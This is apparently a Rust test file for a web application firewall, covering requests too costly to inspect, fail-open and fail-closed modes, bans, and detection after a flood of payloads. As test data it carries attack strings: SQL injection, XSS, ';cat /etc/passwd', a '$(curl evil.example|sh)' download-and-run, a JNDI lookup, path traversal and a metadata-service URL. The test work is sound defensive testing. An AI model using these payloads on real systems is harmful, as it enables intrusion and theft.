//! Requests that cost more to look into than one may.

use super::*;

/// A form of short values, each of which many rules and the tokenizer have to look at: too many for
/// what one request may cost.
fn costly() -> String {
    "p=select(a'--%22{{x}}${y}%3Cz;cat`%7C&".repeat(1_500)
}

fn posted(stage: &Stage, body: &str) -> bool {
    let mut request = get("/search");
    request.headers = vec![("content-type", b"application/x-www-form-urlencoded")];
    let view = RequestView {
        method: "POST",
        ..request.view()
    };
    let body = BodyView {
        bytes: body.as_bytes(),
        is_whole: true,
    };
    stage.guard.check(&view).is_block() || stage.guard.check_body(&view, body).is_block()
}

#[test]
fn a_request_that_costs_too_much_is_decided_by_the_setting() {
    let detects = json!({ "SECURITY_CHECKS": {"sqli": 3, "xss": 3, "command": 3, "flood": 0, "hpp": 0} });
    for (on_failure, is_refused) in [(OnFailure::Open, false), (OnFailure::Closed, true)] {
        let stage = stage_at(
            detects.clone(),
            on_failure,
            Detectors::standard().unwrap(),
            Arc::default(),
        );
        assert_eq!(posted(&stage, &costly()), is_refused, "{on_failure:?}");
        assert_eq!(stage.tally.totals().unjudged, 1);
        assert_eq!(stage.tally.totals().guard_failures, 0, "nothing has failed");
    }
}

#[test]
fn three_different_requests_that_cost_too_much_ban_their_client() {
    let keys = json!({ "SECURITY_CHECKS": {"sqli": 3, "xss": 3, "command": 3, "format": 2}, "BAN_EVIDENCE": 3 });
    let stage = stage_at(keys, OnFailure::Open, Detectors::standard().unwrap(), Arc::default());
    let forms = ["a=1&", "b=2&", "c=3&"].map(|first| format!("{first}{}", costly()));
    for form in [&forms[0], &forms[0], &forms[1]] {
        assert!(!posted(&stage, form), "it is evidence, and a repetition none");
    }
    let is_refused = posted(&stage, &forms[2]);
    let last = stage.detections().pop().unwrap();
    assert!(is_refused, "{last:?}");
    assert_eq!((&*last.rule, last.ban_for.is_some()), ("budget/exhausted", true));
    let off = json!({ "SECURITY_CHECKS": {"sqli": 3, "xss": 3, "command": 3, "format": 0}, "BAN_EVIDENCE": 1 });
    let stage = stage_at(off, OnFailure::Open, Detectors::standard().unwrap(), Arc::default());
    assert!(
        !posted(&stage, &forms[0])
            && stage
                .detections()
                .iter()
                .all(|found| &*found.rule != "budget/exhausted")
    );
}

#[test]
fn costly_requests_change_nothing_about_how_others_are_judged() {
    let stage = stage_at(
        json!({ "SECURITY_CHECKS": {"sqli": 1, "xss": 1, "command": 1, "flood": 0, "hpp": 0} }),
        OnFailure::Open,
        Detectors::standard().unwrap(),
        Arc::default(),
    );
    let attacks = [
        "q=1'+or+'1'%3D'1",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "q=;cat+/etc/passwd",
        "q={{7*7}}",
    ];
    let caught = |stage: &Stage| attacks.iter().filter(|attack| posted(stage, attack)).count();
    assert_eq!(caught(&stage), attacks.len());
    for _ in 0..20 {
        posted(&stage, &costly());
    }
    assert_eq!(caught(&stage), attacks.len());
    assert!(stage.guard.failing_detectors().iter().all(|health| health.is_on));
}

#[test]
fn binary_data_is_no_evidence_however_costly() {
    let keys = json!({ "SECURITY_CHECKS": {"sqli": 3, "xss": 3, "command": 3, "format": 2}, "BAN_EVIDENCE": 1 });
    let stage = stage_at(keys, OnFailure::Open, Detectors::standard().unwrap(), Arc::default());
    // runs of text between bytes that no text has
    let runs = b"\xff\0\x01select(a'--\"{{x}}${y}<z;cat`|".repeat(2_000);
    let request = get("/echo");
    let view = RequestView {
        method: "POST",
        ..request.view()
    };
    let body = BodyView {
        bytes: &runs,
        is_whole: true,
    };
    assert!(!stage.guard.check_body(&view, body).is_block());
    assert_eq!(
        stage.tally.totals().unjudged,
        1,
        "it cost too much, as compressed data may by chance"
    );
}

/// Numbers in no order, the same in each run (Lehmer's generator).
pub(super) struct Draw(pub(super) u64);

impl Draw {
    pub(super) fn below(&mut self, end: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(0x5851_f42d_4c95_7f2d)
            .wrapping_add(0x1405_7b7e_f767_814f);
        usize::try_from(self.0 >> 33).unwrap() % end
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }
}

/// What one thing or another is slow with: openings that are never closed, words of rules, codes
/// within codes.
const COSTLY: &[&str] = &[
    "<a ",
    "<!--",
    "' or ",
    "\"--",
    "((",
    "../",
    "{{",
    "}}",
    "${",
    "$(",
    "%25",
    "%u00",
    "&#x",
    "\\u00",
    ";cat ",
    "|",
    "`",
    "=",
    "\"on",
    "union ",
    "select ",
    "from ",
    "\n",
    "/*",
    "*/",
    "0x2e",
    "\u{fffd}",
    "\u{ff1c}",
    "!+[]",
    "a",
    "1",
    ",",
    "-",
    "@",
    "#",
    "javascript:",
    "http://",
    "JyBPUiAxPTEtLQ",
    "<?",
    "__proto__",
    "O'Neill",
];

/// A value of some of them, and how it is put into a request: in a form, in JSON, as text, in a
/// cookie, in a path.
fn payload(draw: &mut Draw, bytes: usize) -> (usize, String) {
    let pieces: Vec<&str> = (0..=draw.below(6)).map(|_| draw.one(COSTLY)).collect();
    let value = pieces.concat();
    let each = 1 + draw.below(40);
    let field = value.repeat(each);
    let form = draw.below(5);
    let one = match form {
        0 => format!("p={}&", field.replace('&', "%26")),
        1 => format!("{field:?},"),
        _ => field,
    };
    (form, one.repeat(1 + bytes / one.len()))
}

/// Whether a request that carries a text so is refused.
fn sends(stage: &Stage, (form, text): (usize, &str), peer: &str) -> bool {
    let mut request = get("/search").from(peer);
    let cookie = format!(
        "a={}",
        text.replace(';', "%3B")
            .get(..4_000.min(text.len()))
            .unwrap_or_default()
    );
    let json = format!("[{text}null]");
    let mut headers: Vec<(&str, &[u8])> = Vec::new();
    let (content_type, body): (&[u8], &[u8]) = match form {
        0 => (b"application/x-www-form-urlencoded", text.as_bytes()),
        1 => (b"application/json", json.as_bytes()),
        2 => (b"text/plain", text.as_bytes()),
        3 => {
            headers.push(("cookie", cookie.as_bytes()));
            (b"", b"")
        }
        _ => {
            request.query = text.get(..8_000.min(text.len())).unwrap_or_default().to_owned();
            (b"", b"")
        }
    };
    headers.push(("content-type", content_type));
    let headers = headers.as_slice();
    let view = RequestView {
        method: "POST",
        headers: &headers,
        ..request.view()
    };
    let body = BodyView {
        bytes: body,
        is_whole: true,
    };
    stage.guard.check(&view).is_block() || stage.guard.check_body(&view, body).is_block()
}

/// How many payloads are sent in the gate: some seconds of an unoptimised build.
/// `BUCKLER_PAYLOADS=10000` sends as many.
const PAYLOADS: usize = 250;

#[test]
fn after_the_costliest_payloads_the_same_attacks_are_caught_as_before() {
    const BYTES: usize = 8 << 10;
    let attacks: &[(usize, &str)] = &[
        (0, "q=1'+or+'1'%3D'1"),
        (0, "q=-1+union+select+1,2,3"),
        (0, "q=1)+or+(1%3D1"),
        (0, "q=%3Cscript%3Ealert(1)%3C/script%3E"),
        (0, "q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
        (0, "q=;cat+/etc/passwd"),
        (0, "q=$(curl+evil.example|sh)"),
        (0, "q={{7*7}}"),
        (0, "q=${jndi:ldap://evil.example/a}"),
        (0, "q=../../../../etc/passwd"),
        (1, "\"' or 1=1--\","),
        (1, "\"<svg onload=alert(1)>\","),
        (3, "' or 1=1--"),
        (4, "q=http://169.254.169.254/latest/meta-data/"),
    ];
    let stage =
        stage(json!({ "SECURITY_CHECKS": {"sqli": 1, "xss": 1, "command": 1, "flood": 0, "hpp": 0, "format": 1} }));
    let caught = |stage: &Stage| -> Vec<bool> {
        let peers = (0..).map(|number| format!("198.51.100.{number}"));
        let tries = attacks.iter().zip(peers);
        tries.map(|(attack, peer)| sends(stage, *attack, &peer)).collect()
    };
    let before = caught(&stage);
    assert!(before.iter().all(|is_caught| *is_caught), "{before:?}");
    let count = std::env::var("BUCKLER_PAYLOADS")
        .ok()
        .and_then(|count| count.parse().ok())
        .unwrap_or(PAYLOADS);
    let mut draw = Draw(5);
    for number in 0..count {
        let (form, text) = payload(&mut draw, BYTES);
        sends(&stage, (form, &text), &format!("192.0.2.{}", number % 250));
    }
    assert_eq!(caught(&stage), before);
    assert!(stage.guard.failing_detectors().iter().all(|health| health.is_on));
}
